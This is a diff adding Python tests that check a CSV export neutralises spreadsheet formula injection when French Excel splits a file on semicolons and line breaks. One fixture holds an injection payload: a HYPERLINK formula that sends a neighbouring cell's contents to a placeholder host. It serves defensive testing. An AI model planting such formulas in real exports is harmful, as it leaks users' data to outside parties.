@@ -3,6 +3,7 @@ beginning like a formula is data, numbers are never touched (the probe of 6 Dece
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 from decimal import Decimal
@@ -10,7 +11,7 @@ from decimal import Decimal
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from solidarite.web.tableurs import FORMULA_STARTS, csv_cell, xlsx_cell
+from solidarite.web.tableurs import FORMULA_STARTS, csv_cell, safe_csv_cell, xlsx_cell
 
 pytestmark = pytest.mark.sans_base
 
@@ -45,3 +46,69 @@ def test_in_xlsx_a_formula_like_text_is_a_text_cell_with_its_value_unchanged() -
     assert [(c.value, c.data_type, c.quotePrefix) for c in row] == [(t, "s", True) for t in texts] + [
         (-2, "n", False)
     ]
+
+
+# --- The pieces a spreadsheet splitting on « ; » and line breaks makes cells of -----------------------------------
+
+NAME = 'Dupont ; "Jo"\n=HYPERLINK("http://exemple.invalid/?x="&A2;"x");-2+3'
+NEUTRALISED = 'Dupont ; "Jo"\n\'=HYPERLINK("http://exemple.invalid/?x="&A2;"x");\'-2+3'
+
+
+def _cells_of_a_semicolon_spreadsheet(text: str) -> list[str]:
+    """The cells French Excel makes of a comma file opened by a double click: a row per line, a cell per « ; »,
+    a piece beginning with a quote read from after it."""
+    return [piece.lstrip(' "') for line in text.split("\n") for piece in line.split(";")]
+
+
+def _formulas(text: str) -> list[str]:
+    return [cell for cell in _cells_of_a_semicolon_spreadsheet(text) if cell.startswith(FORMULA_STARTS)]
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        (NAME, NEUTRALISED),
+        ("=1+1;@SUM(1)", "'=1+1;'@SUM(1)"),
+        ("a\r\n+33\r-1", "a\n'+33\n'-1"),
+        ("a;  =1", "a;'  =1"),
+        ("Saint-Jean ; Bourg\nligne 2 ; -", "Saint-Jean ; Bourg\nligne 2 ;' -"),
+    ],
+)
+def test_a_piece_after_a_semicolon_or_a_line_break_beginning_like_a_formula_gets_an_apostrophe(
+    text: str, expected: str
+) -> None:
+    """French Excel splits a comma file on « ; » and ends a row at a line break, quotes or not: « Dupont;=… » put
+    a formula in the second cell (the probe of 7 December)."""
+    assert safe_csv_cell(text) == expected
+
+
+def test_the_dashboard_and_open_data_csv_keep_a_tricky_name_in_one_cell_and_no_formula() -> None:
+    from solidarite.pilotage.exports import csv_text
+    from solidarite.pilotage.indicateurs import Colonne
+
+    columns = [
+        Colonne("zone", "Zone", "", "string"),
+        Colonne("nom", "Nom", "", "string"),
+        Colonne("n", "N", ""),
+    ]
+    text = csv_text(columns, [{"zone": "200000172", "nom": "=" + NAME, "n": 3}])
+    assert list(csv.reader(io.StringIO(text))) == [
+        ["zone", "nom", "n"],
+        ["200000172", "'=" + NEUTRALISED, "3"],
+    ]
+    assert _formulas(text) == []
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="indemnisation/exports.py calls csv_cell, not safe_csv_cell, yet (another session's context): when it "
+    "switches, this test passes and its marker is to go",
+)
+def test_the_indemnity_csv_neutralises_the_pieces_too() -> None:
+    from solidarite.indemnisation.exports import COLUMNS, csv_text
+
+    row = dict.fromkeys(COLUMNS, "") | {"mois": dt.date(2026, 10, 1), "nom": NAME, "motif": "ok;=1+1"}
+    text = csv_text([row])
+    read = next(csv.DictReader(io.StringIO(text)))
+    assert (read["nom"], read["motif"]) == (NEUTRALISED, "ok;'=1+1")
+    assert _formulas(text) == []
